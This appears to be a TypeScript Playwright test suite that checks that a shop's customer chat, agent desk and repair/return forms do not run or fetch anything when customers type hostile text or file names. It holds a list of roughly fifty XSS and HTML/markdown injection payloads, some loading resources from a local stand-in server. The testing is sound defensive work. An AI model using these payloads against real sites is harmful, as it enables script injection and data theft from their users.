import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
import { launchBrowser } from '../browser.ts';
import { start } from '../channels/client.ts';
import { chat, customers } from '../forms/form-shop.ts';
import { words } from '../wording.ts';
import { startApp } from './app.ts';

const token = 'the-token-of-this-desk';
let app: Awaited<ReturnType<typeof startApp>>;
let browser: Browser;
beforeAll(async () => {
  [app, browser] = await Promise.all([startApp({ DESK_TOKEN: token }), launchBrowser()]);
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
});

/** Texts that would run a script or fetch something from `away` where they were taken for markup. */
function payloads(away: string): string[] {
  const run = 'globalThis.pwned=1';
  return [
    `<script>${run}</script>`,
    `<script src="${away}/s.js"></script>`,
    `</script><script>${run}</script>`,
    `--></style></title></textarea></noscript><script>${run}</script>`,
    `<img src=x onerror="${run}">`,
    `<img src="${away}/i.png">`,
    `<img srcset="${away}/i2.png 1x">`,
    `"><img src=x onerror=${run}>`,
    `'><img src=x onerror=${run}>`,
    `" autofocus onfocus=${run} x="`,
    `<svg onload=${run}>`,
    `<svg><script href="${away}/s2.js"/></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
    `<details open ontoggle=${run}>`,
    `<video><source onerror=${run}></video>`,
    `<video poster="${away}/p.png" src="${away}/v.mp4"></video>`,
    `<audio src=x onerror=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<body onload=${run}>`,
    `<iframe src="javascript:parent.${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<iframe src="${away}/f"></iframe>`,
    `<object data="${away}/o"></object>`,
    `<embed src="${away}/e">`,
    `<link rel=stylesheet href="${away}/c.css">`,
    `<link rel=prefetch href="${away}/pre">`,
    `<base href="${away}/">`,
    `<meta http-equiv=refresh content="0;url=${away}/m">`,
    `<style>@import "${away}/i.css"; *{background:url(${away}/b.png)}</style>`,
    `<p style="background:url(${away}/b2.png)">x</p>`,
    `<form action="${away}/form"><button autofocus>send</button></form>`,
    `<template><script>${run}</script></template>`,
    `<a href="javascript:${run}">here</a>`,
    `[here](javascript:${run})`,
    `[here](data:text/html,<script>${run}</script>)`,
    `[here](  jAvAsCrIpT:${run})`,
    `![x](${away}/md.png)`,
    `![x][1]\n\n[1]: ${away}/ref.png`,
    `[![x](${away}/md2.png)](${away}/link)`,
    `<${away}/auto>`,
    `{{constructor.constructor('${run}')()}}`,
    `\${${run}}`,
    `<scr\u0000ipt>${run}</script>`,
    `\u202e<script>${run}</script>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `<!--<img src="--><img src=x onerror=${run}//">`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<xss style=animation-name:x onanimationstart=${run}>`,
    `<marquee onstart=${run}>x</marquee>`,
  ];
}

/** Another site, and what it was asked for. */
async function otherSite() {
  const asked: string[] = [];
  const server = createServer((req, res) => {
    asked.push(req.url ?? '');
    res.end();
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  onTestFinished(() => void server.close());
  return { asked, away: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

/** A page of its own; `executed` tells what a script of a stranger would have left. */
async function newPage(): Promise<{ page: Page; executed: () => Promise<unknown[]> }> {
  const context = await browser.newContext();
  onTestFinished(() => context.close());
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const left = (): Promise<unknown> => page.evaluate(() => (globalThis as { pwned?: unknown }).pwned ?? 'nothing');
  return { page, executed: async () => [...dialogs, await left()] };
}

test('no text or file name of a customer runs or fetches anything on the desk', async () => {
  const { away, asked } = await otherSite();
  const customer = await start(app.base, 'fortnight-shop');
  for (const text of payloads(away)) expect((await customer.say(text)).status).toBe(200);
  for (const name of payloads(away).slice(0, 20)) {
    const form = new FormData();
    form.append('file', new Blob(['x'], { type: 'image/png' }), name);
    const headers = { authorization: `Bearer ${customer.token}` };
    await fetch(`${app.base}/v3/directline${customer.here}/upload`, { method: 'POST', headers, body: form });
  }
  await customer.say('talk to a human');
  const { page, executed } = await newPage();
  await page.goto(`${app.base}/desk`);
  await page.getByLabel('Your name').fill('Ann');
  await page.getByLabel('Token').fill(token);
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.locator('[data-reference]').first().click();
  await page.locator('.said-customer', { hasText: 'talk to a human' }).waitFor();
  expect(await page.locator('.said-customer').count()).toBeGreaterThan(payloads(away).length);
  expect(await executed()).toEqual(['nothing']);
  expect(asked).toEqual([]);
});

test('nothing that a customer writes runs or fetches anything in the chat', async () => {
  const { away, asked } = await otherSite();
  const { page, executed } = await newPage();
  await page.goto(`${app.base}/shops/fortnight-shop`);
  const input = page.locator('[data-id="webchat-sendbox-input"]');
  await page.locator('.webchat__bubble').first().waitFor();
  for (const text of payloads(away)) {
    await input.fill(text);
    await input.press('Enter');
  }
  await input.fill('that was all');
  await input.press('Enter');
  await page.locator('.webchat__bubble', { hasText: 'that was all' }).first().waitFor();
  expect(await executed()).toEqual(['nothing']);
  expect(asked).toEqual([]);
});

/** Sends a form as a client does that checks nothing. */
async function submit(page: Page): Promise<void> {
  await page.locator('form').evaluate((form: { noValidate: boolean }) => {
    form.noValidate = true;
  });
  await page.locator('form button').click();
  await page.locator('h1').waitFor();
}

test('nothing that a customer fills in runs or fetches anything on the form, filled in wrongly or rightly', async () => {
  const { away, asked } = await otherSite();
  const { page, executed } = await newPage();
  const { token: link } = await chat(app, customers['warranty-repair']);
  await page.goto(`${app.base}/form?token=${link}`);
  const defect = page.getByLabel(words.say('form.defect'));
  for (let from = 0; from < payloads(away).length; from += 10) {
    const written = payloads(away)
      .slice(from, from + 10)
      .join(' ');
    await defect.fill(written);
    await submit(page);
    expect(await page.getByLabel(words.say('form.accept')).isChecked()).toBe(false);
    // Shown again, as it was written.
    expect(await defect.inputValue()).toContain(payloads(away)[from]?.slice(0, 4));
    expect(await executed()).toEqual(['nothing']);
  }
  await defect.fill(payloads(away).slice(0, 10).join(' '));
  await page.getByLabel(words.say('form.accept')).check();
  await submit(page);
  expect(await page.locator('.form-rma').textContent()).toMatch(/^RMA-/);
  expect(await executed()).toEqual(['nothing']);
  expect(asked).toEqual([]);
});

test('no name of whoever logs in to the form runs or fetches anything', async () => {
  const { away, asked } = await otherSite();
  const { page, executed } = await newPage();
  const { token: link } = await chat(app, customers.return);
  await page.goto(`${app.base}/form?token=${link}`);
  for (const text of payloads(away).slice(0, 12)) {
    await page.getByLabel(words.say('logIn.name')).fill(text);
    await page.getByLabel(words.say('logIn.password')).fill(text);
    await submit(page);
    expect(await executed()).toEqual(['nothing']);
  }
  expect(asked).toEqual([]);
});
